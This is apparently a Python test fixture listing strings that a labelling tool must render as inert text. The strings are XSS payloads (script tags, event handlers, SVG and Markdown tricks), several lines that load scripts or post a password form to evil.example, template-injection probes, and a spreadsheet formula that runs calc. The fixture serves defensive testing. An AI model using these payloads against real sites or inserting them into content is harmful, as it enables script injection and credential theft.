"""Texts that became scripts in other labelling tools, or could: every one must stay a text."""

from __future__ import annotations

# What a script would do if it ran: open a dialog, or leave a mark.
RUN = "window.pwned=1;alert(1)"

CORPUS = [
    # Script elements, also broken ones that parsers mend.
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script\n>",
    f"</textarea></title></style></script><script>{RUN}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    # Event handlers.
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f'"><img src=x onerror="{RUN}">',
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus="{RUN}" x="',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<style>@keyframes x{{}}</style><p style='animation:x' onanimationstart={RUN}>",
    # SVG and MathML.
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    # Other documents, bases, refreshes, forms.
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; *{background:url(https://evil.example/x.png)}</style>",
    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
    # Markdown links and images.
    f"[click me](javascript:{RUN})",
    f"[click me](JaVaScRiPt:{RUN})",
    f"[click me](java&#x73;cript:{RUN})",
    f"[click me](java%0ascript:{RUN})",
    f"[click me](\x01javascript:{RUN})",
    f"[click me](vbscript:{RUN})",
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f'[click me](https://example.org "\\" onmouseover=\\"{RUN}")',
    f"[click me][r]\n\n[r]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    "![pixel](https://evil.example/pixel.png)",
    f'![x"onerror="{RUN}](x)',
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"![x](javascript:{RUN})",
    "[a bank](https://evil.example/@bank.example)",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><script>{RUN}</script>\nx\n```',
    f"| a |\n| - |\n| <img src=x onerror={RUN}> |",
    f"`<img src=x onerror={RUN}>`",
    # Templates.
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
    # Unicode: look-alikes that are folded to markup, directions, characters that nobody sees.
    f"＜script＞{RUN}＜/script＞",
    f"\u202e<script>{RUN}</script>\u202c",
    f"<\u200bscript>{RUN}</script>",
    f"<img src=x on\u00adload={RUN} onerror\u2028={RUN}>",
    f"\ufeff<svg/onload={RUN}>",
    f"ſcript <ſcript>{RUN}</ſcript>",
    "%3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt;alert(1)&lt;/script&gt;",
    "=cmd|' /C calc'!A0",
]
